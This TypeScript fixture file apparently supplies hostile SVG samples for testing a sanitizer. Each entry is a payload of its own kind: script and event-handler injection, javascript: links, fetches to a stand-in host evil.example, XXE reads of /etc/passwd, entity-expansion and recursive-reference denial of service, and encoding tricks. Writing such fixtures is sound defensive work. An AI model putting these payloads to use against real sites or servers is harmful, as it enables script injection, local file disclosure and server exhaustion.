const names = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const svg = (inner: string, more = ''): string => `<svg ${names} viewBox="0 0 20 20"${more}>${inner}</svg>`;
const square = '<path fill="#123456" d="M2 2h16v16H2z"/>';
const js = 'fetch(`//evil.example/`)';
const out = 'http://evil.example/x';

/** Each entity is ten of the one before. */
const multiplied = Array.from('bcdefghij')
  .map((name, n) => `<!ENTITY ${name} "${`&${'abcdefghi'[n]};`.repeat(10)}">`)
  .join('');
/** Each group is ten of the one before. */
const uses = Array.from({ length: 12 }, (_, n) => `<g id="a${n + 1}">${`<use href="#a${n}"/>`.repeat(10)}</g>`).join(
  '',
);

/** Drawings that were made to run something, to fetch something or to eat a server: what of each is what it tries. */
export const hostileSvgs: Readonly<Record<string, string>> = {
  'a script': svg(`<script>${js}</script>${square}`),
  'a script by address': svg(`<script href="${out}.js"/>${square}`),
  'a script in CDATA': svg(`<script><![CDATA[${js}]]></script>${square}`),
  'a script in capitals': svg(`<SCRIPT>${js}</SCRIPT>${square}`),
  'a script of HTML in it': svg(`<html:script xmlns:html="http://www.w3.org/1999/xhtml">${js}</html:script>${square}`),
  'onload of the root': svg(square, ` onload="${js}"`),
  'onclick of a path': svg(`<path onclick="${js}" d="M0 0h9v9z"/>`),
  'onerror of a picture': svg(`<image href="x" onerror="${js}"/>${square}`),
  'onbegin of an animation': svg(`<animate onbegin="${js}" attributeName="x" dur="1s"/>${square}`),
  'a handler in capitals': svg(`<path ONMOUSEOVER="${js}" d="M0 0h9v9z"/>`),
  'a handler behind a line break': svg(`<path\nonfocus\n=\n"${js}" d="M0 0h9v9z"/>`),
  'a link that runs': svg(`<a href="javascript:${js}">${square}</a>`),
  'a link that runs, in XLink': svg(`<a xlink:href="javascript:${js}">${square}</a>`),
  'a link that runs, encoded': svg(`<a href="&#106;avascript:${js}">${square}</a>`),
  'a link elsewhere': svg(`<a href="${out}">${square}</a>`),
  'a picture from elsewhere': svg(`<image href="${out}.png" width="20" height="20"/>`),
  'a picture of this machine': svg('<image href="file:///etc/passwd" width="20" height="20"/>'),
  'a picture as data': svg('<image href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>'),
  'a part of another file': svg(`<use href="${out}.svg#a"/>${square}`),
  'a part as data': svg(`<use href="data:image/svg+xml,<svg id='a' onload='${js}'/>#a"/>${square}`),
  'a fill from elsewhere': svg(`<path fill="url(${out}.svg#a)" d="M0 0h9v9z"/>`),
  'a fill from elsewhere, quoted': svg(`<path fill="url('${out}.svg#a')" d="M0 0h9v9z"/>`),
  'a fill from elsewhere, escaped': svg(`<path fill="u\\72l(${out})" d="M0 0h9v9z"/>`),
  'a clip from elsewhere': svg(`<path clip-path="url(${out}#a)" d="M0 0h9v9z"/>`),
  'a style that fetches': svg(`<path style="fill:url(${out})" d="M0 0h9v9z"/>`),
  'a style with a background': svg(`<path style="background:url(${out})" d="M0 0h9v9z"/>`),
  'a style that is a behavior': svg(`<path style="behavior:url(${out}.htc)" d="M0 0h9v9z"/>`),
  'a style with an expression': svg(`<path style="fill:expression(${js})" d="M0 0h9v9z"/>`),
  'a style sheet': svg(`<style>@import url(${out}.css);</style>${square}`),
  'a style sheet with a font': svg(`<style>@font-face{font-family:x;src:url(${out}.woff)}</style>${square}`),
  'a style sheet before it': `<?xml-stylesheet href="${out}.css"?>${svg(square)}`,
  'a style sheet as XSL': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${out}.xsl"?>${svg(square)}`,
  'HTML inside': svg(
    `<foreignObject width="20" height="20"><body xmlns="http://www.w3.org/1999/xhtml">` +
      `<script>${js}</script></body></foreignObject>`,
  ),
  'a page inside': svg(`<foreignObject><iframe src="${out}"/></foreignObject>${square}`),
  'an iframe': svg(`<iframe src="${out}"></iframe>${square}`),
  'an object': svg(`<object data="${out}"></object>${square}`),
  'an embed': svg(`<embed src="${out}"/>${square}`),
  'a form': svg(`<form action="${out}"><input name="x"/></form>${square}`),
  'HTML that ends the drawing': svg(`</svg><img src=x onerror="${js}">`),
  'HTML after the drawing': `${svg(square)}<script>${js}</script>`,
  'HTML before the drawing': `<img src="${out}">${svg(square)}`,
  'a comment that is none': svg(`<!--><script>${js}</script>-->${square}`),
  'a title that is HTML': svg(`<title><img src="x" onerror="${js}"/></title>${square}`),
  'a description that ends early': svg(`<desc></desc><script>${js}</script>${square}`),
  'an entity of this machine': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
  'an entity from elsewhere': `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${out}.dtd"> %x;]>${svg(square)}`,
  'entities that multiply': `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${multiplied}]>${svg('<text>&j;</text>')}`,
  'a set that runs': svg(`<set attributeName="onmouseover" to="${js}"/>${square}`),
  'an animated link': svg(`<a><animate attributeName="href" values="javascript:${js}"/>${square}</a>`),
  'a filter that fetches': svg(
    `<filter id="f"><feImage href="${out}"/></filter><path filter="url(#f)" d="M0 0h9v9z"/>`,
  ),
  'a filter that blurs for ever': svg(
    '<filter id="f"><feGaussianBlur stdDeviation="100000"/></filter><path filter="url(#f)" d="M0 0h9v9z"/>',
  ),
  'a pattern of patterns': svg(
    '<pattern id="a" width="1" height="1"><rect fill="url(#a)" width="9" height="9"/>' +
      '</pattern><rect fill="url(#a)" width="20" height="20"/>',
  ),
  'uses that multiply': svg(`<g id="a0"><path d="M0 0h1v1z"/></g>${uses}<use href="#a12"/>`),
  'a clip of itself': svg(
    '<clipPath id="a" clip-path="url(#a)"><path d="M0 0h9v9z"/></clipPath><path clip-path="url(#a)" d="M0 0h9v9z"/>',
  ),
  'a gradient of itself': svg('<linearGradient id="a" href="#a"/><path fill="url(#a)" d="M0 0h9v9z"/>'),
  'thousands of groups in each other': svg(`${'<g>'.repeat(5000)}${square}${'</g>'.repeat(5000)}`),
  'half a million parts': svg('<path d="M0 0h1v1z"/>'.repeat(60_000)),
  'a picture without end': svg(square).replace('0 0 20 20', '0 0 1e9 1e9'),
  'a handler behind a character of no width': svg(`<path on\u200bload="${js}" d="M0 0h9v9z"/>`),
  'text in a font from elsewhere': svg(`<text font-family="url(${out})">x</text>`),
  'UTF-7': `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
};
